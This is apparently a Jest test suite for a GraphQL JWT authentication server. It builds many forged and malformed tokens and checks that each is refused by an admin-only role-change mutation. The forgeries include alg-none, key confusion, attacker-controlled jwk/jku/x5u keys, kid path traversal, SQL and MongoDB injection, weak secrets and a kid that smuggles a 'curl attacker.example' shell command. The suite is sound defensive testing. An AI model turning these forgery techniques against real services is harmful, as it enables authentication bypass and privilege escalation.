import { hmacKid } from "../src/auth/signing-keys";
import {
  constants,
  createHmac,
  generateKeyPairSync,
  randomUUID,
  sign as cryptoSign,
} from "node:crypto";
import http from "node:http";
import type { AddressInfo } from "node:net";
import type { GraphQLFormattedError } from "graphql";
import jwt from "jsonwebtoken";
import mongoose from "mongoose";
import { ADMIN, uniqueName, useTestServer } from "./setup/kit";
import { TEST_JWT_SECRET } from "./setup/test-server";
import { answerOf, dataOf, LEAK, type Answer } from "./setup/raw-answers";

/**
 * Forged, tampered and oddly presented access tokens, all aimed at an ADMIN-only mutation
 * that would change a user's roles if any of them got through. For each: UNAUTHENTICATED
 * with reason TOKEN_INVALID (or FORBIDDEN for a real lower-privileged token), the server still
 * answers the next request, and at the end nobody's roles, sessions or tokens changed.
 */

const SIGNUP = `mutation AdvTokSignup($input: SignupInput!) { signup(input: $input) { id } }`;
const SIGNIN = `mutation AdvTokSignin($input: SigninInput!) {
  signin(input: $input) { sessionId accessToken refreshToken user { id roles } }
}`;
const REFRESH = `mutation AdvTokRefresh($refreshToken: String!) {
  refreshToken(refreshToken: $refreshToken) { accessToken }
}`;
const SET_ROLES = `mutation AdvTokSetRoles($userId: ID!, $roles: [Role!]!) {
  setUserRoles(userId: $userId, roles: $roles) { id roles }
}`;
const ADMIN_CONTENT = "{ adminContent }";

interface Refusal {
  code: string;
  reason?: string;
}

const TOKEN_INVALID: Refusal = { code: "UNAUTHENTICATED", reason: "TOKEN_INVALID" };
const FORBIDDEN: Refusal = { code: "FORBIDDEN" };

function summarize(answer: Answer) {
  let body: { data?: unknown; errors?: GraphQLFormattedError[] } | undefined;
  try {
    body = JSON.parse(answer.text) as typeof body;
  } catch {
    body = undefined;
  }
  const first = body?.errors?.[0];
  return {
    status: answer.status,
    json: answer.contentType.startsWith("application/json") && body !== undefined,
    data: body?.data ?? null,
    codes: [...new Set((body?.errors ?? []).map((e) => e.extensions?.code))],
    reason: first?.extensions?.reason,
  };
}

function expectRefusal(answer: Answer, expected: Refusal): void {
  const got = summarize(answer);
  expect(got).toEqual({
    status: 200,
    json: true,
    data: null,
    codes: [expected.code],
    reason: expected.reason ?? got.reason,
  });
  expect(answer.text).not.toMatch(LEAK);
}

const b64 = (value: unknown) =>
  Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url");

/** header.payload.signature, with the signature made by `signer` over the first two parts. */
function build(
  header: unknown,
  payload: unknown,
  signer: (input: string) => string = () => "",
): string {
  const input = `${b64(header)}.${b64(payload)}`;
  return `${input}.${signer(input)}`;
}

const hmac =
  (key: string | Buffer, algorithm = "sha256") =>
  (input: string) =>
    createHmac(algorithm, key).update(input).digest("base64url");

// Keys an attacker owns. The server must trust none of them, wherever the token says to look.
const attackerRsa = generateKeyPairSync("rsa", { modulusLength: 2048 });
const attackerEc = generateKeyPairSync("ec", { namedCurve: "P-256" });
const attackerEd = generateKeyPairSync("ed25519");
const rsaSigner = (input: string) =>
  cryptoSign("sha256", Buffer.from(input), attackerRsa.privateKey).toString("base64url");
const ecSigner = (input: string) =>
  cryptoSign("sha256", Buffer.from(input), {
    key: attackerEc.privateKey,
    dsaEncoding: "ieee-p1363",
  }).toString("base64url");
const edSigner = (input: string) =>
  cryptoSign(null, Buffer.from(input), attackerEd.privateKey).toString("base64url");
const pssSigner = (input: string) =>
  cryptoSign("sha256", Buffer.from(input), {
    key: attackerRsa.privateKey,
    padding: constants.RSA_PKCS1_PSS_PADDING,
    saltLength: 32,
  }).toString("base64url");
const attackerJwk = attackerRsa.publicKey.export({ format: "jwk" });

interface Fixture {
  admin: { id: string; sessionId: string; accessToken: string; refreshToken: string };
  user: { id: string; accessToken: string; refreshToken: string };
  /** Whose roles every forged token tries to raise to ADMIN. */
  canary: { id: string; username: string; password: string };
  /** A URL that counts requests: a server following jku/x5u would call it. */
  keyUrl: string;
}

/** Claims the server would accept if the signature were ours: ADMIN, right issuer and audience. */
function adminClaims(f: Fixture, overrides: Record<string, unknown> = {}) {
  const now = Math.floor(Date.now() / 1000);
  return {
    sub: f.admin.id,
    roles: ["USER", "MODERATOR", "ADMIN"],
    sid: f.admin.sessionId,
    iss: "graphql-jwt-auth",
    aud: "graphql-jwt-auth",
    jti: randomUUID(),
    iat: now,
    exp: now + 900,
    ...overrides,
  };
}

/** The header of the server's own tokens: forgeries differ only in what they forge. */
const HS256 = { alg: "HS256", typ: "JWT", kid: hmacKid(TEST_JWT_SECRET) };

function parts(token: string): [string, string, string] {
  const [header = "", payload = "", signature = ""] = token.split(".");
  return [header, payload, signature];
}

/** Forged tokens; each one claims ADMIN. */
const FORGERIES: ReadonlyArray<{ name: string; make: (f: Fixture) => string }> = [
  {
    name: "an iat an hour ahead, signed with the right secret",
    make: (f) => {
      const now = Math.floor(Date.now() / 1000);
      return build(
        HS256,
        adminClaims(f, { iat: now + 3600, exp: now + 4500 }),
        hmac(TEST_JWT_SECRET),
      );
    },
  },
  {
    name: "an iat a day ahead with a short exp after it, signed with the right secret",
    make: (f) => {
      const now = Math.floor(Date.now() / 1000);
      return build(
        HS256,
        adminClaims(f, { iat: now + 86_400, exp: now + 86_460 }),
        hmac(TEST_JWT_SECRET),
      );
    },
  },
  {
    name: "no sid claim, signed with the right secret",
    make: (f) => build(HS256, adminClaims(f, { sid: undefined }), hmac(TEST_JWT_SECRET)),
  },
  {
    name: "a sid that is not a string, signed with the right secret",
    make: (f) => build(HS256, adminClaims(f, { sid: { $ne: null } }), hmac(TEST_JWT_SECRET)),
  },
  { name: 'alg "none" without a signature', make: (f) => build({ alg: "none" }, adminClaims(f)) },
  {
    name: 'alg "none" with an HMAC signature made with the right secret',
    make: (f) => build({ alg: "none" }, adminClaims(f), hmac(TEST_JWT_SECRET)),
  },
  { name: 'alg "None"', make: (f) => build({ alg: "None" }, adminClaims(f)) },
  { name: 'alg "NONE"', make: (f) => build({ alg: "NONE" }, adminClaims(f)) },
  { name: 'alg "nOnE"', make: (f) => build({ alg: "nOnE" }, adminClaims(f)) },
  {
    name: "no alg in the header",
    make: (f) => build({ typ: "JWT" }, adminClaims(f), hmac(TEST_JWT_SECRET)),
  },
  {
    name: "alg null",
    make: (f) => build({ alg: null }, adminClaims(f), hmac(TEST_JWT_SECRET)),
  },
  {
    name: "a header that is a string, not an object",
    make: (f) => build("HS256", adminClaims(f), hmac(TEST_JWT_SECRET)),
  },
  {
    name: "a header that is an array",
    make: (f) => build([HS256], adminClaims(f), hmac(TEST_JWT_SECRET)),
  },
  {
    name: "a header that is not JSON",
    make: (f) => `${b64("{alg:HS256")}.${b64(adminClaims(f))}.${hmac(TEST_JWT_SECRET)("x")}`,
  },
  {
    name: "HS512 signed with the right secret",
    make: (f) =>
      build({ alg: "HS512", typ: "JWT" }, adminClaims(f), hmac(TEST_JWT_SECRET, "sha512")),
  },
  {
    name: "HS384 signed with the right secret",
    make: (f) =>
      build({ alg: "HS384", typ: "JWT" }, adminClaims(f), hmac(TEST_JWT_SECRET, "sha384")),
  },
  {
    name: "an RS256 header over an HMAC made with the right secret (key confusion)",
    make: (f) => build({ alg: "RS256", typ: "JWT" }, adminClaims(f), hmac(TEST_JWT_SECRET)),
  },
  {
    name: "RS256 signed with an attacker's RSA key",
    make: (f) => build({ alg: "RS256", typ: "JWT" }, adminClaims(f), rsaSigner),
  },
  {
    name: "PS256 signed with an attacker's RSA key",
    make: (f) => build({ alg: "PS256", typ: "JWT" }, adminClaims(f), pssSigner),
  },
  {
    name: "ES256 signed with an attacker's EC key",
    make: (f) => build({ alg: "ES256", typ: "JWT" }, adminClaims(f), ecSigner),
  },
  {
    name: "EdDSA signed with an attacker's Ed25519 key",
    make: (f) => build({ alg: "EdDSA", typ: "JWT" }, adminClaims(f), edSigner),
  },
  {
    name: "an embedded jwk header with the attacker's public key",
    make: (f) => build({ alg: "RS256", jwk: attackerJwk }, adminClaims(f), rsaSigner),
  },
  {
    name: "a jku header pointing at the attacker's key set",
    make: (f) => build({ alg: "RS256", jku: `${f.keyUrl}/jwks.json` }, adminClaims(f), rsaSigner),
  },
  {
    name: "an x5u header pointing at the attacker's certificate",
    make: (f) => build({ alg: "RS256", x5u: `${f.keyUrl}/cert.pem` }, adminClaims(f), rsaSigner),
  },
  {
    name: "an x5c header with a made-up certificate chain",
    make: (f) =>
      build({ alg: "RS256", x5c: [b64("not a certificate")] }, adminClaims(f), rsaSigner),
  },
  {
    name: 'kid "../../../../../../dev/null" with an empty HMAC key',
    make: (f) =>
      build({ ...HS256, kid: "../../../../../../dev/null" }, adminClaims(f), hmac(Buffer.alloc(0))),
  },
  {
    name: 'kid "/dev/null" with an empty HMAC key',
    make: (f) => build({ ...HS256, kid: "/dev/null" }, adminClaims(f), hmac(Buffer.alloc(0))),
  },
  {
    name: "kid pointing at a file with known contents, signed with those contents",
    make: (f) =>
      build(
        { ...HS256, kid: "../../../../../../proc/sys/kernel/randomize_va_space" },
        adminClaims(f),
        hmac("2\n"),
      ),
  },
  {
    name: "kid with SQL injection, signed with the injected key",
    make: (f) =>
      build(
        { ...HS256, kid: "x' UNION SELECT 'attacker-key' -- " },
        adminClaims(f),
        hmac("attacker-key"),
      ),
  },
  {
    name: "kid with a shell command",
    make: (f) =>
      build({ ...HS256, kid: "key|curl attacker.example" }, adminClaims(f), hmac(Buffer.alloc(0))),
  },
  {
    name: "kid with a NUL byte",
    make: (f) => build({ ...HS256, kid: "key\u0000../../x" }, adminClaims(f), hmac("key")),
  },
  {
    name: "kid as a MongoDB operator",
    make: (f) => build({ ...HS256, kid: { $ne: null } }, adminClaims(f), hmac("")),
  },
  {
    name: "HS256 with an empty secret",
    make: (f) => build(HS256, adminClaims(f), hmac(Buffer.alloc(0))),
  },
  {
    name: 'HS256 with the secret "secret"',
    make: (f) => build(HS256, adminClaims(f), hmac("secret")),
  },
  {
    name: "HS256 with the tutorial's secret",
    make: (f) => build(HS256, adminClaims(f), hmac("bezkoder-secret-key")),
  },
  {
    name: "HS256 with the issuer name as secret",
    make: (f) => build(HS256, adminClaims(f), hmac("graphql-jwt-auth")),
  },
  {
    name: "a user's real token with its roles rewritten to ADMIN",
    make: (f) => {
      const [header, payload, signature] = parts(f.user.accessToken);
      const claims = JSON.parse(Buffer.from(payload, "base64url").toString()) as object;
      return `${header}.${b64({ ...claims, roles: ["USER", "MODERATOR", "ADMIN"] })}.${signature}`;
    },
  },
  {
    name: "a user's real token with its subject rewritten to the admin",
    make: (f) => {
      const [header, payload, signature] = parts(f.user.accessToken);
      const claims = JSON.parse(Buffer.from(payload, "base64url").toString()) as object;
      return `${header}.${b64({ ...claims, sub: f.admin.id })}.${signature}`;
    },
  },
  {
    name: "the admin's real token without its signature",
    make: (f) => {
      const [header, payload] = parts(f.admin.accessToken);
      return `${header}.${payload}.`;
    },
  },
  {
    name: "the admin's real token re-headed as alg none",
    make: (f) => `${b64({ alg: "none", typ: "JWT" })}.${parts(f.admin.accessToken)[1]}.`,
  },
  {
    name: "the admin's real token with one signature character changed",
    make: (f) => {
      const [header, payload, signature] = parts(f.admin.accessToken);
      const flipped = signature[0] === "A" ? "B" : "A";
      return `${header}.${payload}.${flipped}${signature.slice(1)}`;
    },
  },
  {
    name: "the admin's real token with a fourth segment",
    make: (f) => `${f.admin.accessToken}.AAAA`,
  },
  {
    name: "the admin's real token with a trailing dot",
    make: (f) => `${f.admin.accessToken}.`,
  },
  {
    name: "the admin's real token with base64 padding added",
    make: (f) => {
      const [header, payload, signature] = parts(f.admin.accessToken);
      return `${header}==.${payload}.${signature}`;
    },
  },
  {
    name: "a JWE-shaped token with five segments",
    make: (f) =>
      `${b64({ alg: "dir", enc: "A256GCM" })}..${b64("iv")}.${b64(adminClaims(f))}.${b64("tag")}`,
  },
  {
    name: "the right secret, with sub as a MongoDB operator",
    make: (f) =>
      jwt.sign(adminClaims(f, { sub: { $ne: null } }), TEST_JWT_SECRET, {
        keyid: hmacKid(TEST_JWT_SECRET),
      }),
  },
  {
    name: "the right secret, with roles as a string instead of a list",
    make: (f) =>
      jwt.sign(adminClaims(f, { roles: "ADMIN" }), TEST_JWT_SECRET, {
        keyid: hmacKid(TEST_JWT_SECRET),
      }),
  },
  {
    name: "the right secret, with a role name in lower case",
    make: (f) =>
      jwt.sign(adminClaims(f, { roles: ["admin"] }), TEST_JWT_SECRET, {
        keyid: hmacKid(TEST_JWT_SECRET),
      }),
  },
  {
    name: "the right secret, with a Cyrillic homoglyph of ADMIN",
    make: (f) =>
      jwt.sign(adminClaims(f, { roles: ["\u0410DMIN"] }), TEST_JWT_SECRET, {
        keyid: hmacKid(TEST_JWT_SECRET),
      }),
  },
  { name: "a refresh token", make: (f) => f.admin.refreshToken },
  { name: "three dots", make: () => "..." },
  { name: "a.b.c", make: () => "a.b.c" },
  { name: "a truncated header", make: () => "eyJ" },
  { name: "the word null", make: () => "null" },
  { name: "the word undefined", make: () => "undefined" },
  { name: "[object Object]", make: () => "[object Object]" },
  { name: "8000 characters of garbage", make: () => "x".repeat(8000) },
  { name: "Latin-1 letters", make: () => "t\u00f6k\u00e9n.\u00e9.\u00e9" },
];

describe("adversarial access tokens", () => {
  const ctx = useTestServer();
  let fixture: Fixture;
  let keyServer: http.Server;
  let keyServerHits = 0;
  let before: unknown;
  let tried = 0;
  let answered = 0;

  const gql = async (
    query: string,
    variables?: Record<string, unknown>,
    headers: Record<string, string> = {},
  ) => answerOf(await ctx.server.post(JSON.stringify({ query, variables }), headers));

  async function signinRaw(username: string, password: string) {
    const result = dataOf(await gql(SIGNIN, { input: { username, password } }));
    return result.signin as {
      sessionId: string;
      accessToken: string;
      refreshToken: string;
      user: { id: string; roles: string[] };
    };
  }

  const raiseCanary = (headers: Record<string, string>) =>
    gql(SET_ROLES, { userId: fixture.canary.id, roles: ["ADMIN"] }, headers);

  async function attack(send: () => Promise<Answer>, expected: Refusal): Promise<void> {
    tried += 1;
    let failure: unknown;
    try {
      expectRefusal(await send(), expected);
    } catch (error) {
      failure = error;
    }
    const next = await gql("{ publicContent }");
    expect(summarize(next).data).toEqual({ publicContent: "Public Content." });
    answered += 1;
    if (failure) throw failure;
  }

  /** Sends with headers given as a list, so a name can appear twice (fetch would merge them). */
  function postWithRawHeaders(headers: string[]): Promise<Answer> {
    const url = new URL(ctx.server.url);
    const body = JSON.stringify({
      query: SET_ROLES,
      variables: { userId: fixture.canary.id, roles: ["ADMIN"] },
    });
    return new Promise((resolve, reject) => {
      const request = http.request(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: "POST",
          // A list of headers gets no defaults from node: Host must be given.
          headers: ["host", url.host, "content-type", "application/json", ...headers],
        },
        (response) => {
          let text = "";
          response.setEncoding("utf8");
          response.on("data", (chunk: string) => (text += chunk));
          response.on("end", () =>
            resolve({
              status: response.statusCode ?? 0,
              contentType: String(response.headers["content-type"] ?? ""),
              text,
            }),
          );
        },
      );
      request.on("error", reject);
      request.end(body);
    });
  }

  async function state() {
    const db = mongoose.connection.db;
    if (!db) throw new Error("the test database is not connected");
    const users = await db
      .collection("users")
      .find({}, { projection: { username: 1, roles: 1, passwordHash: 1 } })
      .sort({ _id: 1 })
      .toArray();
    const sessions = await db
      .collection("sessions")
      .find({}, { projection: { revoked: 1 } })
      .sort({ _id: 1 })
      .toArray();
    const refreshTokens = await db.collection("refresh_tokens").countDocuments();
    return JSON.parse(JSON.stringify({ users, sessions, refreshTokens })) as unknown;
  }

  beforeAll(async () => {
    keyServer = http.createServer((_req, res) => {
      keyServerHits += 1;
      res.setHeader("content-type", "application/json");
      res.end(JSON.stringify({ keys: [attackerJwk] }));
    });
    await new Promise<void>((resolve) => keyServer.listen(0, "127.0.0.1", resolve));
    const keyUrl = `http://127.0.0.1:${(keyServer.address() as AddressInfo).port}`;

    const accounts = ["user", "canary"].map((prefix) => {
      const username = uniqueName(prefix);
      return { username, email: `${username}@example.com`, password: `pw-${randomUUID()}` };
    });
    const ids: string[] = [];
    for (const account of accounts) {
      ids.push((dataOf(await gql(SIGNUP, { input: account })).signup as { id: string }).id);
    }
    const admin = await signinRaw(ADMIN.username, ADMIN.password);
    const user = await signinRaw(accounts[0]!.username, accounts[0]!.password);
    fixture = {
      admin: {
        id: admin.user.id,
        sessionId: admin.sessionId,
        accessToken: admin.accessToken,
        refreshToken: admin.refreshToken,
      },
      user: { id: user.user.id, accessToken: user.accessToken, refreshToken: user.refreshToken },
      canary: { id: ids[1]!, username: accounts[1]!.username, password: accounts[1]!.password },
      keyUrl,
    };
    before = await state();
  });

  afterAll(async () => {
    await new Promise((resolve) => keyServer.close(resolve));
    console.log(
      `adversarial token suite: ${tried} bad inputs tried, ${
        tried === answered ? "all answered" : `${tried - answered} not confirmed answered`
      }`,
    );
  });

  it("the real admin token, and a hand-built one with the right secret, are accepted (the controls work)", async () => {
    // The forgeries below differ from the hand-built token only in what they forge.
    const handBuilt = build(HS256, adminClaims(fixture), hmac(TEST_JWT_SECRET));
    const controls: Record<string, string>[] = [
      { authorization: `Bearer ${fixture.admin.accessToken}` },
      { authorization: `bearer ${fixture.admin.accessToken}` },
      { "x-access-token": fixture.admin.accessToken },
      { authorization: `Bearer ${handBuilt}` },
      // RFC 6750 2.1: "Bearer" 1*SP b64token.
      { authorization: `Bearer  ${fixture.admin.accessToken}` },
      { authorization: `Bearer     ${fixture.admin.accessToken}` },
    ];
    for (const headers of controls) {
      expect(summarize(await gql(ADMIN_CONTENT, undefined, headers)).data).toEqual({
        adminContent: "Admin Content.",
      });
    }
  });

  describe.each([
    ["Authorization: Bearer", (token: string) => ({ authorization: `Bearer ${token}` })],
    ["x-access-token", (token: string) => ({ "x-access-token": token })],
  ] as const)("forged tokens in %s", (_transport, headersFor) => {
    it.each(FORGERIES)("$name is TOKEN_INVALID", async ({ make }) => {
      await attack(() => raiseCanary(headersFor(make(fixture))), TOKEN_INVALID);
    });
  });

  describe("Authorization headers of the wrong shape, around the real admin token", () => {
    const shapes: ReadonlyArray<{ name: string; header: (t: string) => string }> = [
      { name: "a tab after Bearer", header: (t) => `Bearer\t${t}` },
      { name: "a no-break space after Bearer", header: (t) => `Bearer\u00a0${t}` },
      { name: "no space after Bearer", header: (t) => `Bearer${t}` },
      { name: "a colon after Bearer", header: (t) => `Bearer:${t}` },
      { name: "an equals sign after Bearer", header: (t) => `Bearer=${t}` },
      { name: "the token twice", header: (t) => `Bearer ${t} ${t}` },
      { name: "the token twice with a tab between", header: (t) => `Bearer ${t}\t${t}` },
      { name: "Bearer twice", header: (t) => `Bearer Bearer ${t}` },
      { name: "a second scheme after it", header: (t) => `Bearer ${t}, Basic Zm9vOmJhcg==` },
      { name: "a second scheme before it", header: (t) => `Basic Zm9vOmJhcg==, Bearer ${t}` },
      { name: "two Bearer credentials", header: (t) => `Bearer ${t}, Bearer ${t}` },
      { name: "the token in quotes", header: (t) => `Bearer "${t}"` },
      { name: "a trailing semicolon", header: (t) => `Bearer ${t};` },
      { name: "a trailing comma", header: (t) => `Bearer ${t},` },
      { name: "the Token scheme", header: (t) => `Token ${t}` },
      { name: "the JWT scheme", header: (t) => `JWT ${t}` },
      { name: "no scheme at all", header: (t) => t },
      { name: "Bearer with no token", header: () => "Bearer" },
      {
        name: "Basic with the admin's real username and password",
        header: () =>
          `Basic ${Buffer.from(`${ADMIN.username}:${ADMIN.password}`).toString("base64")}`,
      },
      { name: "Digest naming the admin", header: () => `Digest username="${ADMIN.username}"` },
    ];

    it.each(shapes)("$name is TOKEN_INVALID", async ({ header }) => {
      await attack(
        () => raiseCanary({ authorization: header(fixture.admin.accessToken) }),
        TOKEN_INVALID,
      );
    });
  });

  describe("x-access-token of the wrong shape, and both headers at once", () => {
    it.each([
      ["garbage", (): string => "garbage"],
      ["Bearer and the admin token", () => `Bearer ${fixture.admin.accessToken}`],
      ["the admin token twice", () => `${fixture.admin.accessToken} ${fixture.admin.accessToken}`],
      [
        "the admin token twice with a comma",
        () => `${fixture.admin.accessToken},${fixture.admin.accessToken}`,
      ],
    ] as const)("x-access-token with %s is TOKEN_INVALID", async (_name, value) => {
      await attack(() => raiseCanary({ "x-access-token": value() }), TOKEN_INVALID);
    });

    it("a garbage Authorization header is not rescued by a valid x-access-token", async () => {
      await attack(
        () =>
          raiseCanary({
            authorization: "Bearer garbage",
            "x-access-token": fixture.admin.accessToken,
          }),
        TOKEN_INVALID,
      );
    });

    it("a user's Authorization header is not raised by the admin's x-access-token", async () => {
      await attack(
        () =>
          raiseCanary({
            authorization: `Bearer ${fixture.user.accessToken}`,
            "x-access-token": fixture.admin.accessToken,
          }),
        FORBIDDEN,
      );
    });
  });

  describe("duplicated headers", () => {
    it("two Authorization headers, garbage first and the admin second, are TOKEN_INVALID", async () => {
      await attack(
        () =>
          postWithRawHeaders([
            "authorization",
            "Bearer garbage",
            "authorization",
            `Bearer ${fixture.admin.accessToken}`,
          ]),
        TOKEN_INVALID,
      );
    });

    it("two Authorization headers, a user first and the admin second, do not make an admin", async () => {
      await attack(
        () =>
          postWithRawHeaders([
            "authorization",
            `Bearer ${fixture.user.accessToken}`,
            "authorization",
            `Bearer ${fixture.admin.accessToken}`,
          ]),
        FORBIDDEN,
      );
    });

    it("two x-access-token headers with the admin token are TOKEN_INVALID", async () => {
      await attack(
        () =>
          postWithRawHeaders([
            "x-access-token",
            fixture.admin.accessToken,
            "x-access-token",
            fixture.admin.accessToken,
          ]),
        TOKEN_INVALID,
      );
    });

    it("Authorization appended twice through fetch (merged into one list) is TOKEN_INVALID", async () => {
      await attack(async () => {
        const headers = new Headers({ "content-type": "application/json" });
        headers.append("authorization", `Bearer ${fixture.user.accessToken}`);
        headers.append("authorization", `Bearer ${fixture.admin.accessToken}`);
        return answerOf(
          await fetch(ctx.server.url, {
            method: "POST",
            headers,
            body: JSON.stringify({
              query: SET_ROLES,
              variables: { userId: fixture.canary.id, roles: ["ADMIN"] },
            }),
          }),
        );
      }, TOKEN_INVALID);
    });
  });

  describe("tokens in the wrong place", () => {
    it("an access token given as a refresh token is REFRESH_TOKEN_INVALID", async () => {
      await attack(() => gql(REFRESH, { refreshToken: fixture.admin.accessToken }), {
        code: "UNAUTHENTICATED",
        reason: "REFRESH_TOKEN_INVALID",
      });
    });

    it("a forged alg-none token given as a refresh token is REFRESH_TOKEN_INVALID", async () => {
      const forged = build({ alg: "none" }, adminClaims(fixture));
      await attack(() => gql(REFRESH, { refreshToken: forged }), {
        code: "UNAUTHENTICATED",
        reason: "REFRESH_TOKEN_INVALID",
      });
    });
  });

  describe("afterwards", () => {
    it("no key URL named in a token header was ever fetched", () => {
      expect(keyServerHits).toBe(0);
    });

    it("no role, account, session or refresh token changed", async () => {
      expect(await state()).toEqual(before);
      const canary = await signinRaw(fixture.canary.username, fixture.canary.password);
      expect(canary.user).toEqual({ id: fixture.canary.id, roles: ["USER"] });
      const admin = await signinRaw(ADMIN.username, ADMIN.password);
      expect([...admin.user.roles].sort()).toEqual(["ADMIN", "MODERATOR", "USER"]);
    });
  });
});
